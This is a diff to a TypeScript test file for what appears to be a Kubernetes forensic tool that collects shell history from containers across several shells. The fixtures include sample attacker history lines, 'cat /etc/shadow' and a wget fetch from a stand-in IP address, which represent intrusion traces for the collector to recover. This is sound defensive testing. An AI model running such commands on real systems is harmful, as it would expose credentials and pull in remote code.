@@ -37,6 +37,11 @@ async function exec(kc: KubeConfig, container: string, command: string[], stdin?
 
 const HISTORY = '#1717236000\nid\n#1717236005\ncat /etc/shadow\n';
 
+/** The history script's output for these files, written out byte by byte (the protocol in historyScript.ts). */
+function framed(...files: [path: string, content: string][]): string {
+  return files.map(([path, content]) => `@@aks-evidence-file ${Buffer.byteLength(content)} ${path}\n${content}\n@@aks-evidence-end ${Buffer.byteLength(content)}\n`).join('');
+}
+
 function scenario(): Scenario {
   const containers = ['debian', 'bashonly', 'alpine', 'zsh', 'distroless'];
   const pod: KubeObject = {
@@ -109,14 +114,14 @@ describe('real exec', () => {
 
   test('the history script runs under each shell and returns byte-exact files', async () => {
     const debian = await exec(kc, 'debian', historyCommand('/bin/sh'));
-    expect(debian.stdout).toBe(`@@aks-evidence-file ${HISTORY.length} /root/.bash_history\n${HISTORY}@@aks-evidence-file 3 /home/dev/.sh_history\nls\n`);
-    expect((await exec(kc, 'bashonly', historyCommand('/bin/bash'))).stdout).toBe(`@@aks-evidence-file ${HISTORY.length} /root/.bash_history\n${HISTORY}`);
-    expect((await exec(kc, 'alpine', historyCommand('/bin/sh'))).stdout).toBe('@@aks-evidence-file 27 /root/.ash_history\nwget http://198.51.100.7/m\n');
+    expect(debian.stdout).toBe(framed(['/root/.bash_history', HISTORY], ['/home/dev/.sh_history', 'ls\n']));
+    expect((await exec(kc, 'bashonly', historyCommand('/bin/bash'))).stdout).toBe(framed(['/root/.bash_history', HISTORY]));
+    expect((await exec(kc, 'alpine', historyCommand('/bin/sh'))).stdout).toBe(framed(['/root/.ash_history', 'wget http://198.51.100.7/m\n']));
     // zsh is really zsh: a glob that matches nothing is an error there (NOMATCH), not a literal word.
     const zsh = await exec(kc, 'zsh', historyCommand('/bin/zsh'));
     expect(zsh.stdout).toBe('');
     expect(zsh.stderr).toBe('zsh:1: no matches found: /root/.*history\n');
-    expect((await exec(kc, 'zsh', historyCommand('/bin/sh'))).stdout).toBe('@@aks-evidence-file 22 /home/dev/.zsh_history\n: 1717232400:0;whoami\n');
+    expect((await exec(kc, 'zsh', historyCommand('/bin/sh'))).stdout).toBe(framed(['/home/dev/.zsh_history', ': 1717232400:0;whoami\n']));
   });
 
   test("a missing command inside a shell is the shell's 127; a missing binary is the runtime's error (distroless)", async () => {
@@ -144,7 +149,7 @@ describe('emulated exec (hosts without namespaces)', () => {
     expect(cluster.exec.mode).toBe('emulated');
     expect(cluster.exec.detail).toMatch(/^emulated: an in-memory bash/);
     const debian = await exec(kc, 'debian', historyCommand('/bin/sh'));
-    expect(debian.stdout).toBe(`@@aks-evidence-file ${HISTORY.length} /root/.bash_history\n${HISTORY}@@aks-evidence-file 3 /home/dev/.sh_history\nls\n`);
+    expect(debian.stdout).toBe(framed(['/root/.bash_history', HISTORY], ['/home/dev/.sh_history', 'ls\n']));
     const distroless = await exec(kc, 'distroless', historyCommand('/bin/sh'));
     expect(distroless.status?.message).toContain('stat /bin/sh: no such file or directory');
     const exit = await exec(kc, 'debian', ['/bin/sh', '-c', 'echo x >&2; exit 9']);
